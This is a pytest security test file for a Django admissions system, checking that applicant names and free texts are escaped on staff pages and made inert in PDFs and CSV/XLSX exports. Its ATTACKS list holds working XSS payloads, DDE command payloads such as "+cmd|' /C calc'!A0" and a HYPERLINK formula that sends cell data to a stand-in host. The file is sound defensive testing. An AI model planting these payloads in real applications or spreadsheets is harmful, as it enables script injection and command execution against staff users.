"""Stored XSS and formula injection (issue 11.8): names and free texts an applicant saves
(script tags, event handlers, right-to-left overrides, very long strings) are escaped on every
staff page that shows them, appear as literal text in the PDFs (decision letter, reconsideration
letter, case file), and are inert in CSV and XLSX exports (no cell starts with = + - @, no
formula cells).

One application goes through the real forms, to prove the forms keep the texts as typed; the
hypothesis examples save theirs through factories and services (fast), each in a savepoint of
its own, and render every page for the one application in one go.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from accounts.models import Role
from admissions.appeals.services import appeal_forward, appeal_lodge, appeal_reconsider
from admissions.applications.models import (
    Application,
    ApplicationStatus,
    PriorEducation,
    RecruitmentChannel,
    Situation,
)
from admissions.applications.services import transfer
from admissions.enrolment.models import Enrolment, EnrolmentStatus
from admissions.files import uploads
from admissions.files.spreadsheets import FORMULA_STARTS, spreadsheet_row, spreadsheet_safe
from admissions.rounds.models import Offer, OfferAnswerKind, Outcome
from admissions.rounds.services import rounds
from admissions.rounds.services.letters import letter_create
from tests.admissions.appeals_support import result_of
from tests.admissions.intake_support import staff_client
from tests.admissions.letters_support import (
    decided_application,
    letters_media,  # noqa: F401 - the fixture
    pdf_text,
    published_round,
)
from tests.admissions.settlement_support import small_region
from tests.factories import (
    CentreFactory,
    IntakePeriodFactory,
    MembershipFactory,
    MunicipalityFactory,
    OfferingFactory,
    ProgrammeFactory,
    UserFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("letters_media")]

HOST = "hemland.example.test"
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea></title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "\u202egnp.exe",
    '=HYPERLINK("http://x.test/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ request.user }}{% now 'Y' %}",
)
# The attacks that are markup (the others are spreadsheet formulas, bidi and template tags).
HTML_ATTACKS = ATTACKS[:6]
# The markup an attack leaves in a page only if something printed it unescaped: each pattern
# starts with a raw "<" or sits in an attribute's quotes, which escaped text never has
# (escaped, "<img src=x onerror=alert(1)>" is "&lt;img src=x onerror=alert(1)&gt;").
RAW_MARKUP = re.compile(
    r"<script>alert|<img src=x onerror|<svg onload|<iframe srcdoc|href=\"javascript:", re.I
)
_plain = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=12
)


@st.composite
def hostile_texts(draw, max_size: int = 100) -> str:
    """Plain text around one or more attacks, sometimes repeated to a very long string, cut to
    what the field holds, and stripped as the forms strip."""
    attacks = draw(st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=3))
    text = draw(_plain) + "".join(attacks) + draw(_plain)
    if draw(st.booleans()):
        text = text * (max_size // max(1, len(text)) + 1)
    return text[:max_size].strip() or ATTACKS[0]


def assert_inert(html: str, *texts: str, shown: bool = True) -> None:
    """No attack's markup in the page; each text, where the page shows it, escaped (line by
    line: |linebreaksbr puts a <br> at each line break)."""
    raw = RAW_MARKUP.search(html)
    assert raw is None, html[max(0, raw.start() - 200) : raw.end() + 200]
    for text in texts:
        if escape(text) != text:
            assert text not in html
        if shown:
            for line in re.split(r"\r\n|\r|\n", text):
                assert escape(line) in html, line


def test_the_check_fails_on_raw_markup_and_passes_escaped_text():
    """The check itself: each attack printed raw is caught, the same attack escaped is not (the
    old pattern `onerror=alert` also matched escaped text)."""
    for attack in HTML_ATTACKS:
        with pytest.raises(AssertionError):
            assert_inert(f"<p>{attack}</p>", attack)
        assert_inert(f"<p>{escape(attack)}</p>", attack)


# --- cells of the exports -----------------------------------------------------------------------


def cells_of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def cells_of_xlsx(content: bytes) -> list[list]:
    from openpyxl import load_workbook

    rows = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # openpyxl reads a stored formula back as data type "f".
                assert cell.data_type != "f", cell.value
            rows.append([cell.value for cell in row])
    return rows


def assert_no_formula(rows) -> None:
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), value


def _lines(value):
    return re.sub(r"\r\n|\r", "\n", value) if isinstance(value, str) else value


def assert_exported(rows, reference: str, *texts: str) -> None:
    """No formula anywhere; the application's row holds each text, made inert (line breaks
    aside: a CSV cell's carriage return is read back as a line feed)."""
    assert_no_formula(rows)
    (row,) = [r for r in rows if reference in r]
    for text in texts:
        assert _lines(spreadsheet_safe(text)) in [_lines(cell) for cell in row], text


@given(value=st.text(max_size=50))
def test_the_neutraliser_keeps_the_text_and_never_starts_with_a_formula_sign(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (value, "'" + value)
    assert spreadsheet_row([value, 3, None, -1]) == [safe, 3, None, -1]


def pdf_shows(text: str, *names: str) -> None:
    """Each name (in the order the PDF prints them on one line) is there as literal text: the
    words as typed, markup and all. A right-to-left override turns the rest of its line round
    (the layout follows Unicode's bidi rules), so only the text before it is compared."""
    for name in names:
        literal, override, _rest = name.partition("\u202e")
        # A long name wraps anywhere: spacing aside, the literal text is there.
        words = "".join(literal.split())
        assert words in "".join(text.split()), words
        if override:
            break


def assert_inert_pdf(content: bytes) -> None:
    assert b"/JavaScript" not in content and b"/JS " not in content
    assert b"javascript:" not in content.lower()
    assert b"/URI (http://x.test" not in content


# --- one application through the real forms ----------------------------------------------------


@pytest.fixture
def world(region):
    karlstad = MunicipalityFactory(region=region, code="1780", name="Karlstad")
    period = IntakePeriodFactory(region=region, code="ht2027")
    offering = OfferingFactory(region=region, intake_period=period)
    return {
        "karlstad": karlstad,
        "offering": offering,
        "officer": staff_client(region),
        "admin": staff_client(region, role=Role.REGION_ADMIN),
    }


def applicant_submits(region, world, *, first: str, last: str, free_text: str) -> Application:
    """A new applicant fills every step with the given texts and submits, as in the browser."""
    from django.test import Client

    user = UserFactory()
    MembershipFactory(region=region, role=Role.APPLICANT, user=user)
    client = Client(HTTP_HOST=HOST, HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    client.post(reverse("admissions:apply_start", args=[world["offering"].pk]))
    application = Application.objects.get(applicant=user)

    def step(name, data):
        url = reverse("admissions:application_step", kwargs={"pk": application.pk, "step": name})
        response = client.post(url, data)
        assert response.status_code == 302, (name, response.content.decode()[:2000])

    step(
        "identity",
        {
            "first_name": first,
            "last_name": last,
            "birth_date": "1985-03-12",
            "has_no_identity_number": "on",
        },
    )
    step(
        "contact",
        {
            "email": f"a{user.pk}@example.test",
            "home_municipality": world["karlstad"].pk,
            "street_address": free_text[:100],
            "city": free_text[:60],
        },
    )
    step(
        "background",
        {
            "prior_education": PriorEducation.UPPER_SECONDARY,
            "situation": Situation.UNEMPLOYED,
            "recruitment_channel": RecruitmentChannel.SFI,
        },
    )
    step("validation", {"validation_requested": "on", "validation_description": free_text})
    step("review", {"consent": "on"})
    application.refresh_from_db()
    return application


FORM_FIRST = '=HYPERLINK("http://x.test/?"&A1,"Klicka")"><img src=x onerror=alert(1)>'
FORM_LAST = "@SUM(1+1)*cmd|' /C calc'!A0<script>alert(1)</script>\u202egnp.exe"
FORM_TEXT = "".join(HTML_ATTACKS) * 20
# The forms drop bidi overrides (admissions.applications.text) and keep every other character.
SAVED_LAST = FORM_LAST.replace("\u202e", "")


def test_the_forms_keep_what_the_applicant_typed_and_the_intake_pages_and_export_escape_it(
    region, world
):
    application = applicant_submits(
        region, world, first=FORM_FIRST, last=FORM_LAST, free_text=FORM_TEXT
    )
    # The forms kept the texts as typed, but for the override (else the tests below, which save
    # texts directly, would prove nothing about what an applicant can save).
    assert (application.first_name, application.last_name) == (FORM_FIRST, SAVED_LAST)
    assert application.street_address == FORM_TEXT[:100].strip()
    assert application.validation_description == FORM_TEXT
    assert application.status == ApplicationStatus.SUBMITTED, application.status

    officer = world["officer"]
    queue = officer.get(reverse("admissions:intake_queue"))
    assert queue.status_code == 200
    assert_inert(queue.content.decode(), FORM_FIRST, SAVED_LAST)
    detail = officer.get(reverse("admissions:intake_application", args=[application.pk]))
    assert detail.status_code == 200
    assert_inert(
        detail.content.decode(),
        FORM_FIRST,
        SAVED_LAST,
        application.street_address,
        application.city,
        FORM_TEXT,
    )
    for file_format, read in (("csv", cells_of_csv), ("xlsx", cells_of_xlsx)):
        exported = officer.post(
            reverse("admissions:transfer_export"), {"file_format": file_format, "status": ""}
        )
        assert exported.status_code == 200, exported.content[:2000]
        content = b"".join(exported.streaming_content) if exported.streaming else exported.content
        assert_exported(read(content), application.reference, FORM_FIRST, SAVED_LAST)


# --- hypothesis: every staff page, the exports, the letter and the case file ---------------------


@pytest.fixture
def staff(region):
    # The intake office (and a round) made once, outside the examples' savepoints.
    published_round(region, IntakePeriodFactory(region=region))
    return {
        "officer": staff_client(region),
        "admin": staff_client(region, role=Role.REGION_ADMIN),
    }


def hostile_application(region, *, first: str, last: str, text: str):
    """A decided application (not eligible, admitted, waiting) holding the texts, as the forms
    save them, with its decision letter, an appeal of the refusal and the admitted seat taken."""
    decided = decided_application(
        region, outcomes=(Outcome.NOT_ELIGIBLE, Outcome.ADMITTED, Outcome.WAITING)
    )
    Application.objects.filter(pk=decided.application.pk).update(
        first_name=first,
        last_name=last,
        street_address=text[:200],
        city=text[:100],
        language_support_note=text,
        validation_requested=True,
        validation_description=text,
    )
    decided.application.refresh_from_db()
    letter = letter_create(round=decided.round, application=decided.application)
    appeal = appeal_lodge(
        acting_user=decided.application.applicant,
        application=decided.application,
        result=result_of(decided, Outcome.NOT_ELIGIBLE),
        requested_change=text[:500],
        grounds=text,
    )
    offer = Offer.objects.get(round=decided.round, application=decided.application)
    rounds.offer_answer(
        acting_user=decided.application.applicant, offer=offer, kind=OfferAnswerKind.ACCEPTED
    )
    return decided, letter, appeal


def read_file(field) -> bytes:
    with field.open("rb") as stored:
        return stored.read()


def every_page_is_inert(region, staff, *, first: str, last: str, text: str) -> None:
    decided, letter, appeal = hostile_application(region, first=first, last=last, text=text)
    application = decided.application
    admitted = decided.choices[1].offering
    officer, admin = staff["officer"], staff["admin"]

    def page(client, name, *args, shown=(), hidden=(), data=None, post=False):
        url = reverse(name if ":" in name else f"admissions:{name}", args=args)
        response = client.post(url, data) if post else client.get(url, data)
        assert response.status_code == 200, (name, response.status_code)
        html = response.content.decode()
        assert_inert(html, *shown)
        assert_inert(html, *hidden, shown=False)

    names = (first, last)
    page(officer, "intake_queue", shown=names)
    page(officer, "intake_application", application.pk, shown=(*names, text[:200], text))
    page(
        officer,
        "intake_bulk",
        post=True,
        data={"applications": [application.pk], "action": "mark_eligible"},
        shown=names,
    )
    page(admin, "access_log", post=True, data={"q": application.reference}, shown=names)
    page(
        officer,
        "round_results",
        decided.round.pk,
        data={"reference": application.reference},
        shown=names,
    )
    # (The per-offering lists need the cutoffs a real round run stores: not made here.)
    page(officer, "appeal_queue", hidden=names)
    page(officer, "appeal_review", appeal.pk, shown=(text[:500], text), hidden=names)
    page(officer, "enrolment_offering", admitted.pk, shown=names)
    # The validation office's queue lists the applications that ask for validation (the
    # description cut to 30 words).
    page(admin, "validation:case_queue", shown=names, hidden=(text,))
    # The student completes the course: the centre's record and the follow-up pages.
    enrolment = Enrolment.objects.create(
        application=application,
        choice=decided.choices[1],
        offering=admitted,
        started_on=admitted.starts_on,
        status=EnrolmentStatus.COMPLETED,
        ended_on=admitted.ends_on,
    )
    coordinator = staff_client(region, role=Role.COORDINATOR, scope_centre=admitted.centre)
    page(coordinator, "enrolment_offering", admitted.pk, shown=names)
    page(coordinator, "enrolment_correct", enrolment.pk, shown=names)
    page(admin, "industriradet:outcome_list", shown=names)
    page(admin, "industriradet:outcome_record", enrolment.pk, shown=names)

    membership = officer.user.memberships.get(region=region)
    for file_format, read in (("csv", cells_of_csv), ("xlsx", cells_of_xlsx)):
        exported = transfer.applications_export(
            acting_user=officer.user,
            membership=membership,
            intake_period=None,
            status="",
            file_format=file_format,
            include_identity_numbers=False,
        )
        assert_exported(read(exported.content), application.reference, first, last)

    content = read_file(letter.file)
    pdf_shows(pdf_text(content), first, last)
    assert_inert_pdf(content)
    # Changed in part by the intake office (a new letter), then forwarded to the board.
    reconsidered = appeal_reconsider(
        acting_user=officer.user,
        appeal=appeal,
        fully_changed=False,
        decision="Behörig till ett av valen.",
        reasons="Intyget visar det.",
    )
    content = read_file(reconsidered.file)
    pdf_shows(pdf_text(content), first, last)
    assert_inert_pdf(content)
    forwarded = appeal_forward(acting_user=officer.user, appeal=appeal)
    content = read_file(forwarded.case_file)
    pdf_shows(pdf_text(content), first, last)
    assert_inert_pdf(content)


# Long as an appeal's grounds may be (5000 characters).
LONG = "".join(HTML_ATTACKS) * 25


@settings(
    max_examples=4,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    # No shrinking: each example renders a dozen pages and two PDFs, and a failure shows its
    # example as it is.
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
)
@example(first=FORM_FIRST, last=FORM_LAST, text=LONG[:5000])
@example(first="'><svg onload=alert(1)>", last="+cmd|' /C calc'!A0", text=LONG[:3000])
@example(
    first="\t=1+1<iframe srcdoc='<script>alert(1)</script>'>",
    last="-2+3+cmd|' /C calc'!A0",
    text="{{ request.user }}{% now 'Y' %}\r\n" + '<a href="javascript:alert(1)">x</a>',
)
@given(first=hostile_texts(), last=hostile_texts(), text=hostile_texts(max_size=3000))
def test_names_and_free_texts_are_inert_on_every_staff_page_export_and_letter(
    region, staff, first, last, text
):
    # Each example in a savepoint of its own, rolled back: the pages show its application only.
    with transaction.atomic():
        every_page_is_inert(region, staff, first=first, last=last, text=text)
        transaction.set_rollback(True)


# --- settlement: the student's name on the drill-down page and in its exports -----------------


def test_a_students_name_is_inert_on_the_settlement_page_and_in_its_exports(region):
    world = small_region(region)
    application = world.application("s4")
    first, last = FORM_FIRST, "-2+3+cmd|' /C calc'!A0<svg onload=alert(1)>"
    Application.objects.filter(pk=application.pk).update(first_name=first, last_name=last)
    admin = staff_client(region, role=Role.REGION_ADMIN)

    page = admin.get(
        reverse("admissions:settlement_municipality", args=[world.period.pk, world.kil.code])
    )
    assert page.status_code == 200
    assert_inert(page.content.decode(), first, last)
    for file_format, read in (("csv", cells_of_csv), ("xlsx", cells_of_xlsx)):
        exported = admin.post(
            reverse("admissions:settlement_export", args=[world.period.pk, file_format])
        )
        assert exported.status_code == 200
        assert_exported(read(exported.content), "HEM-S4", f"{first} {last}")


# --- transfer: the names of an uploaded file on the import's preview ----------------------------


IMPORT_HEADER = (
    *("personnummer", "birth_date", "first_name", "last_name", "email", "phone"),
    *("home_municipality_code", "intake_period"),
    *(f"choice_{rank}" for rank in range(1, 7)),
)


def test_the_names_and_values_of_an_imported_file_are_escaped_on_the_preview(region):
    from django.core.files.uploadedfile import SimpleUploadedFile

    karlstad = MunicipalityFactory(region=region, code="1780", name="Karlstad")
    period = IntakePeriodFactory(region=region, code="ht2027")
    OfferingFactory(
        region=region,
        intake_period=period,
        programme=ProgrammeFactory(region=region, code="svets"),
        centre=CentreFactory(region=region, slug="karlstad", host_municipality=karlstad),
    )
    first, last = FORM_FIRST, FORM_LAST
    accepted = ["", "1990-03-14", first, last, "a@example.test", "", "1780", "ht2027"]
    # Refused: every value it is refused for is itself an attack.
    refused = ["", "1990-03-14", first, last, "a@example.test", "", *HTML_ATTACKS[:2]]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(IMPORT_HEADER)
    for cells in (accepted, refused):
        writer.writerow([*cells, "svets@karlstad", "", "", "", "", ""])
    officer = staff_client(region)
    upload = officer.post(
        reverse("admissions:transfer_import"),
        {
            "file": SimpleUploadedFile(
                "remisser.csv", buffer.getvalue().encode(), content_type="text/csv"
            )
        },
    )
    assert upload.status_code == 302, upload.content.decode()[:2000]
    preview = officer.get(reverse("admissions:transfer_import_preview"))
    assert preview.status_code == 200
    html = preview.content.decode()
    assert "1 row can be imported." in html and "1 row is refused." in html
    # The import, as the forms, drops the override.
    assert_inert(html, first, SAVED_LAST)
    assert_inert(html, *HTML_ATTACKS[:2], shown=False)


# --- file names --------------------------------------------------------------------------------


@given(name=hostile_texts(max_size=200))
def test_an_uploaded_file_name_loses_markup_controls_and_bidi_overrides(name):
    shown = uploads.masked_name(name + ".pdf", "application/pdf")
    assert shown.endswith(".pdf")
    assert not set(shown) & set('<>"\\/\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069')
